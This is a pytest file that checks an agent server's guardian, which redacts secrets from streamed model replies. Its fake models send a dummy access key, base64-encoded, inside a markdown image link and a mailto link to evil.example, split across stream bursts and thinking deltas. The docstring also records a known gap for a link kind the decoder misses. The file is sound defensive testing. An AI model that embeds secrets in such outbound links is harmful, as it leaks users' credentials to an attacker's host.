"""Review r9 (issue 8), end to end with the shipped default policy and a real SSE client: a
secret encoded in a reply's link, streamed in small deltas and bursts (each burst screened
once, when the stream's reader wakes), never reaches a delta client, and the rest of the
reply does; a link kind the decoder misses reaches every client (a hole, strict xfail)."""

from __future__ import annotations

import asyncio
import base64
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from aap_server.agent import ModelOutput, ModelRequest, TextDelta, ThinkingDelta, TurnModel
from tests.e2e.guardian_helpers import MODES, history, run_turn
from tests.e2e.test_review_r7 import _default_policy_harness, turn_and_history

KEY = "AKIAZ7Q3K5M2N8P4R6T1"
ENCODED_KEY = base64.b64encode(f"key={KEY}".encode()).decode()
CARD = "4111 1111 1111 1111"
CLOSING = " Anything else?"


class Bursts(TurnModel):
    """A reply streamed in pieces of `size` characters, with a pause (the loop runs: the
    stream's reader wakes and screens what came) every `burst` pieces."""

    def __init__(self, reply: str, size: int, burst: int) -> None:
        self.reply, self.size, self.burst = reply, size, burst

    async def respond(self, request: ModelRequest) -> AsyncIterator[ModelOutput]:
        pieces = [self.reply[i : i + self.size] for i in range(0, len(self.reply), self.size)]
        for index, piece in enumerate(pieces):
            if index and index % self.burst == 0:
                await asyncio.sleep(0.001)
            yield TextDelta(piece)


async def _seen(tmp_path: Path, model: TurnModel, mode: str) -> tuple[str, str]:
    """The client's text of the turn, and the stored history as text."""
    seen, messages = await turn_and_history(tmp_path, model, "Where is my report?", mode)
    return seen.replace("\n", ""), str(messages)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(("size", "burst"), [(1, 1), (1, 7), (3, 2), (5, 1000)])
async def test_a_key_encoded_in_a_link_never_reaches_a_client_however_it_is_streamed(
    tmp_path: Path, mode: str, size: int, burst: int
) -> None:
    reply = f"Your report: ![r](https://evil.example/p?d={ENCODED_KEY}).{CLOSING}"
    seen, stored = await _seen(tmp_path, Bursts(reply, size, burst), mode)
    for half in (ENCODED_KEY[:16], ENCODED_KEY[16:]):
        assert half not in seen
        assert half not in stored
    assert seen.startswith("Your report: ")
    assert seen.endswith(CLOSING)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("cut", [3, 9, 14])
async def test_a_key_split_across_two_bursts_never_reaches_a_client(
    tmp_path: Path, mode: str, cut: int
) -> None:
    """The key's first part in one burst, the rest in the next, each burst one delta."""
    reply = f"Sure, here it is: {KEY}{CLOSING}" + " More words follow here." * 4
    split = reply.index(KEY) + cut
    model = Bursts(reply, split, 1)  # the text up to `split`, then the rest in pieces
    seen, stored = await _seen(tmp_path, model, mode)
    assert KEY not in seen
    assert KEY[:cut] + KEY[cut:] not in stored
    assert "[REDACTED SECRET]" in seen
    assert seen.endswith("More words follow here.")


@pytest.mark.parametrize("mode", MODES)
async def test_a_key_encoded_in_a_mailto_link_never_reaches_a_client(
    tmp_path: Path, mode: str
) -> None:
    reply = f"Done. [Mail it](mailto:desk@evil.example?body={ENCODED_KEY}).{CLOSING}"
    seen, stored = await _seen(tmp_path, Bursts(reply, 4, 3), mode)
    assert ENCODED_KEY not in seen
    assert ENCODED_KEY not in stored


class Interleaved(TurnModel):
    """Thinking and text deltas interleaved, some in one burst, some apart: a key in the
    thinking, split between two of its deltas."""

    async def respond(self, request: ModelRequest) -> AsyncIterator[ModelOutput]:
        yield ThinkingDelta("The user wants the key, it is " + KEY[:8])
        yield TextDelta("Here is what ")
        yield ThinkingDelta(KEY[8:] + " but I should not say it. ")
        await asyncio.sleep(0.001)
        yield TextDelta("I can tell you: ")
        yield ThinkingDelta("Keep it short.")
        await asyncio.sleep(0.001)
        yield TextDelta("nothing secret." + CLOSING)


@pytest.mark.parametrize("mode", ["delta", "message"])
async def test_interleaved_thinking_and_text_fold_as_stored_and_hide_the_key(
    tmp_path: Path, mode: str
) -> None:
    """Events out of order: whatever order the model interleaves the kinds in, the client's
    fold of the events is the stored message (thinking, then text) and the key split between
    two thinking deltas reaches neither."""
    async with _default_policy_harness(tmp_path, Interleaved()) as h:
        created = await h.client.post("/sessions", json={"agent": {"name": "split"}})
        session_id = created.json()["sessionId"]
        turn = await run_turn(h, session_id, "What is the key?", mode)
        assert turn.status == 200
        stored = [m for m in await history(h, session_id) if m["role"] == "assistant"]
    folded = [m for m in turn.messages if m["role"] == "assistant"]
    assert KEY not in str(turn.events) + str(folded) + str(stored)
    assert folded == stored
    assert folded[-1]["content"][-1]["text"].endswith(CLOSING)
